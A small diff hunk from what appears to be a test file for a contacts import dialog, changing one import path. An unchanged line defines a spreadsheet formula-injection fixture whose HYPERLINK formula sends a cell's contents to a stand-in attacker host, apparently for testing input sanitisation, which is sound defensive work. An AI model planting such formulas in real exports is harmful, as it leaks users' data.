@@ -7,7 +7,7 @@
 import { describe, expect, it } from "@atrium/test-kit";
 import { act } from "react";
 import { input, renderWithApi, until } from "../../platform/testing/dom.tsx";
-import { ImportDialog } from "./contacts-page.tsx";
+import { ImportDialog } from "./import-dialog.tsx";
 import { ImportContactsDocument } from "./operations.ts";
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
